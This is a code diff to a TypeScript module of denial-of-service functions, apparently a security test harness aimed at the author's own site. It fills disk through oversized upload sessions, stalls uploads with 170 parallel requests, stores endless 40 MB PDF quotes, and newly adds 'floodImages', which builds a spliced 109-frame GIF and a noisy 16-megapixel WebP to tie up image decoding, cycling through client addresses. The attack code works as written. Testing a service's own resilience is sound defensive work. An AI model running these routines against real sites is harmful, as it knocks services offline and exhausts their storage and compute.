@@ -1,5 +1,6 @@
 import { randomBytes } from 'node:crypto'
 import { setTimeout as pause } from 'node:timers/promises'
+import sharp from 'sharp'
 import { publicKeyOf, type Statuses, stranger } from './stranger.ts'
 
 const mebibyte = 1024 * 1024
@@ -7,13 +8,13 @@ const selection = 40 * mebibyte
 
 type Attack = Readonly<{
   signal: AbortSignal
-  /** Where it comes from; more than one are used in turn. */
+  /** Client addresses, used in turn. */
   addresses?: readonly string[]
 }>
 
 const oneAddress = ['198.51.100.1']
 
-/** C1: promises more than the disk has, as a new guest each time, and sends all of it at once. */
+/** C1: opens uploads for more than the disk has, as a new guest each time, and sends all parts at once. */
 export async function fillDisk(site: string, { signal, addresses = oneAddress }: Attack): Promise<Statuses> {
   const { statuses, open, put } = stranger(site, { key: await publicKeyOf(site), signal })
   const bytes = randomBytes(5 * mebibyte)
@@ -27,13 +28,13 @@ export async function fillDisk(site: string, { signal, addresses = oneAddress }:
     const parts = opened.flatMap(({ address, upload }) =>
       (upload?.parts ?? []).map((part) => ({ address, ...part })),
     )
-    await inLanes(12, parts, ({ address, url, size }) => put(address, url, bytes.subarray(0, size), size))
+    await inParallel(12, parts, ({ address, url, size }) => put(address, url, bytes.subarray(0, size), size))
     await pause(200)
   }
   return statuses
 }
 
-/** C1b: sends most of one part 170 times at once and stands still; each try that is cut off begins again. */
+/** C1b: sends most of one part 170 times in parallel and then stalls; each request that ends is begun again. */
 export async function stallOnePart(
   site: string,
   { signal, addresses = oneAddress }: Attack,
@@ -60,13 +61,13 @@ export async function stallOnePart(
   return statuses
 }
 
-/** C1c: sends quote after quote with 40 MB of files each, which stay when they are stored. */
+/** C1c: sends quote after quote with 40 MB of files each, which are kept. */
 export async function fillForGood(
   site: string,
   { signal, addresses = oneAddress }: Attack,
 ): Promise<Statuses> {
   const { statuses, open, putAll, complete, quote } = stranger(site, { key: await publicKeyOf(site), signal })
-  // A PDF is kept as it is.
+  // A PDF is stored unchanged.
   const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(selection - 9)])
   for (let sent = 0; !signal.aborted; sent += 1) {
     const address = addresses[sent % addresses.length] ?? ''
@@ -78,23 +79,67 @@ export async function fillForGood(
     await putAll(address, upload, bytes)
     const completed = await complete(address, upload)
     if (completed.status !== 200) continue
-    // Our own server's answer.
+    // The response of our own server.
     const { key } = JSON.parse(completed.text) as { key: string }
     await quote(address, upload.cookie, [key], `Filler ${sent}`)
   }
   return statuses
 }
 
-/** Does the work for each of them, so many at a time. */
-async function inLanes<Item>(
-  lanes: number,
+/** Works on all items, `limit` at a time. */
+async function inParallel<Item>(
+  limit: number,
   items: readonly Item[],
   work: (item: Item) => Promise<unknown>,
 ): Promise<void> {
   const left = items.values()
   await Promise.all(
-    Array.from({ length: lanes }, async () => {
+    Array.from({ length: limit }, async () => {
       for (const item of left) await work(item)
     }),
   )
+}
+
+/** 109 frames of a megapixel each in a few kilobytes: 10 to 20 s of decoding. */
+async function longGif(): Promise<Buffer> {
+  const create = { width: 1000, height: 1000, channels: 3 as const, background: 'red' }
+  const one = await sharp({ create }).gif({ effort: 1 }).toBuffer()
+  // The global color table begins at byte 13; after it comes the frame, and a trailer of one byte.
+  const table = 13 + 3 * 2 ** (((one[10] ?? 0) & 7) + 1)
+  const frame = one.subarray(table, -1)
+  return Buffer.concat([one.subarray(0, table), ...Array<Buffer>(109).fill(frame), one.subarray(-1)])
+}
+
+/** 16 megapixels of noise: some seconds of decoding. */
+const noisyWebp = () =>
+  sharp({
+    create: {
+      ...{ width: 4000, height: 4000, channels: 3, background: 'gray' },
+      noise: { type: 'gaussian', mean: 128, sigma: 60 },
+    },
+  })
+    .webp({ quality: 40, effort: 0 })
+    .toBuffer()
+
+/** H3: keeps the image processes busy, with four costly images in parallel from each address. */
+export async function floodImages(
+  site: string,
+  { signal, addresses = ['198.51.100.1'] }: { signal: AbortSignal; addresses?: readonly string[] },
+): Promise<Statuses> {
+  const { statuses, open, putAll, complete } = stranger(site, { key: await publicKeyOf(site), signal })
+  const images = [await longGif(), await noisyWebp()]
+  async function sendOneByOne(address: string, first: number) {
+    for (let sent = first; !signal.aborted; sent += 1) {
+      const image = new Uint8Array(images[sent % images.length] ?? [])
+      const upload = await open(address, image.length)
+      if (!upload) {
+        await pause(200)
+        continue
+      }
+      await putAll(address, upload, image)
+      await complete(address, upload)
+    }
+  }
+  await Promise.all(addresses.flatMap((address) => [0, 1, 2, 3].map((first) => sendOneByOne(address, first))))
+  return statuses
 }
